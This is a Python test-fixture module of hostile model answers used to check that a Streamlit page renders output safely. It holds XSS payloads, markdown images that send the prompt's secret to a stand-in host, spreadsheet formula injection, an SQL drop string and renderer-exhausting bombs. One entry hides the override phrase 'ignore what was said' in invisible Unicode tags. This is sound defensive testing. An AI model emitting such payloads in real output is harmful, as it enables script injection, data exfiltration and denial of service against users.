"""Hostile answers: texts that try to load, to run, to disguise or to overwhelm, wherever a page shows them."""
# ruff: noqa: E501  # a text is easier to read on one line

from __future__ import annotations

REMOTE = "http://hostile.invalid"
"""A host that no resolver knows."""

RUNS = "window.hostile_ran=1;document.title='ran'"
"""What a script of a text would do, for a test to see."""


def answers(address: str) -> dict[str, str]:
    """The small ones by name; `address` is a listening server that must not be asked for anything."""
    spelled = (_images(address), _links(address), _html(address), _maths(address), _streamlit(address), _odd(address))
    return {name: text for each in spelled for name, text in each.items()}


def _images(at: str) -> dict[str, str]:
    return {
        "image inline": f"![a]({at}/i1.png)",
        "image remote host": f"![a]({REMOTE}/i2.png)",
        "image with title": f"![a]({at}/i3.png \"title\") ![b]({at}/i4.png 'title') ![c]({at}/i5.png (title))",
        "image in angle brackets": f"![a](<{at}/i6.png>) ![b](<{at}/i 7.png> 'x')",
        "image by reference": f"![a][ref one]\n\n[ref one]: {at}/i8.png 'title'",
        "image by collapsed reference": f"![ref two][]\n\n[ref two]: <{at}/i9.png>",
        "image by shortcut reference": f"![ref three]\n\n[REF   three]:\n   {at}/i10.png\n   'title'",
        "image defined inside a quotation": f"![q]\n\n> [q]: {at}/i11.png",
        "image nested in a link": f"[![a]({at}/i12.png)]({at}/target)",
        "image nested in an image": f"![a ![b]({at}/i13.png) c]({at}/i14.png)",
        "image in a heading": f"# ![a]({at}/i15.png)\n\n![a]({at}/i16.png)\n===",
        "image in a table": f"| a | b |\n|---|---|\n| ![a]({at}/i17.png) | `x|y` ![b]({at}/i18.png) |",
        "image in lists": f"- ![a]({at}/i19.png)\n  1. ![b]({at}/i20.png)\n- [ ] ![c]({at}/i21.png)",
        "image in emphasis": f"**![a]({at}/i22.png)** ~~![b]({at}/i23.png)~~ _![c]({at}/i24.png)_",
        "image with entities": f"&#33;[a]({at}/i25.png) !&lbrack;b&rbrack;({at}/i26.png) ![c](&#104;ttp{at[4:]}/i27.png)",
        "image with backslashes": f"\\![a]({at}/i28.png) !\\[b]({at}/i29.png) \\\\![c]({at}/i30.png)",
        "image percent encoded": f"![a]({at}/%69%33%31.png) ![b](%68ttp{at[4:]}/i32.png)",
        "image over line ends": f"![a\nb](\n{at}/i33.png\n'x\ny') !\n[c]({at}/i34.png)",
        "image with a carriage return": f"![a](\r{at}/i35.png\r\n) \u2028![b]({at}/i36.png)\u2029",
        "image between lame code marks": f"`` ` ![a]({at}/i37.png) ` ```![b]({at}/i38.png)",
        "image after a tag that swallows code marks": f"<a href='`'>![a]({at}/i39.png)` <!-- ` -->![b]({at}/i40.png)`",
        "image in maths that swallows a fence": f"$$\n```\n$$\n![a]({at}/i41.png)\n\n$`$ ![b]({at}/i42.png) `",
        "image in a footnote": f"Text[^1] and ^[![a]({at}/i43.png)]\n\n[^1]: ![b]({at}/i44.png)",
        "image without a scheme": f"![a](//{at[7:]}/i45.png) ![b](\\\\{at[7:]}/i46.png)",
        "image of data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![b](data:image/png;base64,AA==)",
        "image that holds the answer": f"![a]({at}/steal?q=SECRET%20OF%20THE%20PROMPT)",
        "wiki image": f"![[{at}/i47.png]] [[{at}/i48]]",
    }


def _links(at: str) -> dict[str, str]:
    return {
        "links that hide": f"[your bank]({at}/l1) [here][x] [https://good.org]({at}/l2)\n\n[x]: {at}/l3",
        "links with brackets": f"[a [b] c]({at}/l4) [a](<{at}/l5 (x)> 't') [a]({at}/l6(x)) [](<{at}/l7>)",
        "addresses": f"<{at}/l8> {at}/l9 www.hostile.invalid/l10 a@hostile.invalid <a@hostile.invalid>",
        "script links": f"[a](javascript:alert(1)) [b](JaVaScRiPt:{RUNS}) [c](&#106;avascript:alert(1))",
        "script links in space": "[a](<java\tscript:alert(1)>) [b](\x01javascript:alert(1)) [c](<\tjavascript:alert(1)>)",
        "script addresses": "<javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,<script>alert(1)</script>>",
        "other schemes": "[a](vbscript:msgbox(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](file:///etc/passwd)",
        "link of the page itself": "[Connect](/connect?endpoint=http://hostile.invalid) [x](?plan=1.x) [y](#top) [z](.)",
    }


def _html(at: str) -> dict[str, str]:
    run = RUNS.replace("'", "&#39;")
    return {
        "img": f"<img src='{at}/h1.png' onerror=\"{run}\">\n\ntext <img src={at}/h2.png> <IMG/SRC={at}/h3.png>",
        "img set": f"<img srcset='{at}/h4.png 1x'><picture><source srcset='{at}/h5.png'><img></picture>",
        "script": f"<script>{RUNS}</script>\n\n<script src='{at}/h6.js'></script><script type=module src={at}/h7.js>",
        "iframe": f"<iframe src='{at}/h8' srcdoc='<script>parent.{RUNS}</script>'></iframe>",
        "svg": f'<svg onload="{run}"><image href=\'{at}/h9.png\'/><use href="{at}/h10.svg#a"/></svg>',
        "style": f"<style>@import url({at}/h11.css); *{{background:url({at}/h12.png)}}</style>"
        f"<p style='background:url({at}/h13.png);position:fixed;inset:0'>over all</p>",
        "link": f"<link rel=stylesheet href={at}/h14.css><link rel=preload as=image href={at}/h15.png>"
        f"<link rel=dns-prefetch href={REMOTE}>",
        "meta refresh": f"<meta http-equiv=refresh content='0;url={at}/h16'>",
        "base": f"<base href='{at}/'><a href=h17>relative</a>",
        "form": f"<form action='{at}/h18'><input name=key autofocus onfocus=\"{run}\"><button>Check key</button></form>",
        "object": f"<object data='{at}/h19'></object><embed src='{at}/h20'><applet code='{at}/h21'>",
        "media": f"<video src='{at}/h22.mp4' poster='{at}/h23.png' autoplay></video><audio src={at}/h24.mp3 autoplay>",
        "details": f'<details open ontoggle="{run}"><summary>more</summary>{RUNS}</details>',
        "broken tags": f'<scr<script>ipt>{RUNS}</scr</script>ipt><img """><script>{RUNS}</script>">',
        "html in code that does not end": f"```html\n<script>{RUNS}</script><img src={at}/h25.png>",
        "template and data": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> <?php echo 1 ?> <![CDATA[x]]>",
    }


def _maths(at: str) -> dict[str, str]:
    deep = "".join(f"\\def\\{chr(98 + n)}{{{f'{chr(92)}{chr(97 + n)}' * 9}}}" for n in range(9))
    return {
        "latex that refers": f"$\\href{{javascript:alert(1)}}{{x}}$ $\\url{{{at}/m1}}$ $\\includegraphics{{{at}/m2.png}}$",
        "latex with html": f"$\\htmlId{{root}}{{x}}$ $\\htmlStyle{{background:url({at}/m3.png)}}{{x}}$ $\\htmlClass{{a}}{{x}}$",
        "latex that refers to itself": "$\\def\\a{\\a\\a}\\a$ $$\\newcommand{\\b}{\\b x}\\b$$",
        "latex that grows": f"$\\def\\a{{aaaaaaaaa}}{deep}\\j$",
        "latex of giant size": "$\\rule{99999em}{99999em}$ $$\\kern-9999em\\raise9999em{x}\\hspace{99999px}y$$",
        "latex over its neighbours": "$\\rlap{\\rule[-500em]{900em}{900em}}$ $\\llap{\\Huge\\rule[-99em]{90em}{190em}}$",
        "latex nested": f"${'{' * 3000}x{'}' * 3000}$ ${'x_{' * 600}y{'}' * 600}$",
        "latex unclosed": "$$\\begin{matrix} 1 & 2 \\frac{ \\left( ",
    }


def _streamlit(at: str) -> dict[str, str]:
    return {
        "directives": ":red[red] :blue-background[x] :rainbow[x] :small[x] :green-badge[Key is good] :gray[![a]"
        f"({at}/s1.png)]",
        "icons": ":material/warning: :material/no_such_icon: :streamlit: :smile: :+1: :no_such:",
        "directive attributes": f":a[x]{{href={at}/s2}} ::img{{src={at}/s3.png}} :::div{{style='position:fixed'}}\nx\n:::",
        "widgets": "[[Run comparison]] ( ) Built-in model (x) NVIDIA API catalog `st.button('Check key')`\n\n<button>Stop</button>",
        "front matter": f"---\ntitle: x\nlayout: {at}/s4\n---\n\n+++\nx = 1\n+++",
        "mermaid": f'```mermaid\ngraph TD; A[<img src={at}/s5.png>] --> B; click A href "javascript:alert(1)"\n```',
        "fences unclosed": "````\n```\n~~~~\n``\n` unclosed",
        "toast of an error": ":red[**API key was refused.**] Enter your key again: __________",
    }


def _odd(at: str) -> dict[str, str]:
    pile = "".join(chr(0x0300 + n % 0x6F) for n in range(200))
    return {
        "ansi": "\x1b[31mred\x1b[0m \x1b]8;;" + at + "/o1\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x07\x08\x9b31m",
        "right to left override": f"\u202egnp.elif\u202c \u2066{at}/o2\u2069 \u200f\u061c",
        "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f !\u200b[x](y)",
        "tags of the last plane": "".join(chr(0xE0000 + ord(each)) for each in "ignore what was said") + " end",
        "zalgo": " ".join(f"{letter}{pile}" for letter in "zalgo"),
        "null bytes": "a\x00b\x00\x00c \x01\x02\x7f\x80\x9f",
        "broken utf-8": "a\ufffdb\ufffe\uffff\U0001ffff \ufdd0",
        "private and unassigned": "\ue000\uf8ff\U000f0000\U0010ffff\u0378",
        "separators": "a\x0bb\x0cc\x1cd\x1de\x85f\u2028g\u2029h",
        "emoji sequences": "👨‍👩‍👧‍👦" * 50 + "🏴󠁧󠁢󠁥󠁮󠁧󠁿" + "🇰🇷" * 50,
        "formula": '=HYPERLINK("' + at + '/o3","click")',
        "formula plus": "+cmd|' /C calc'!A0",
        "formula minus": "-2+3+cmd|' /C calc'!A0",
        "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "formula after a tab": "\t=1+1",
        "formula after a carriage return": "\r=1+1",
        "json": '{"error": {"message": "key_refused"}}',
        "sql": "'; DROP TABLE generations; --",
        "nested quotations": "> " * 400 + "deep",
        "nested lists": "\n".join("  " * depth + "- x" for depth in range(300)),
        "nested brackets": "[" * 1000 + "a" + "](b)" * 1000,
        "nested emphasis": "*_" * 500 + "x" + "_*" * 500,
        "many images": f"![a]({at}/o4.png)" * 200,
        "wide table": "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "b|" * 100 + "\n") * 5,
        "one long word": "x" * 20_000,
        "spaces": " " * 20_000 + "x" + "\n" * 5_000 + "y",
    }


def large() -> dict[str, str]:
    """Those that would fill a page by their size alone."""
    row = "| " + " | ".join("cell" for _ in range(20)) + " |\n"
    return {
        "one line of a megabyte": "word " * 200_000,
        "one word of a megabyte": "x" * 1_000_000,
        "100,000 lines": "".join(f"{number}\n" for number in range(100_000)),
        "100,000 list items": "- x\n" * 100_000,
        "50,000 paragraphs": "x\n\n" * 50_000,
        "a table of 5,000 rows": row + "|---" * 20 + "|\n" + row * 5_000,
        "100,000 quotations deep": ">" * 100_000 + "x",
        "100,000 brackets": "[" * 100_000,
        "100,000 images": "![a](b)" * 100_000,
        "100,000 code marks": "`a``b" * 50_000,
        "100,000 stars": "*a _b " * 50_000,
        "100,000 dollars": "$x" * 100_000,
        "100,000 tags": "<a><b>" * 50_000,
        "a fence of a megabyte": "```python\n" + "x = 1  # y\n" * 90_000 + "```",
        "100,000 colons": ":a[" * 50_000 + "https://a.b " * 20_000,
    }
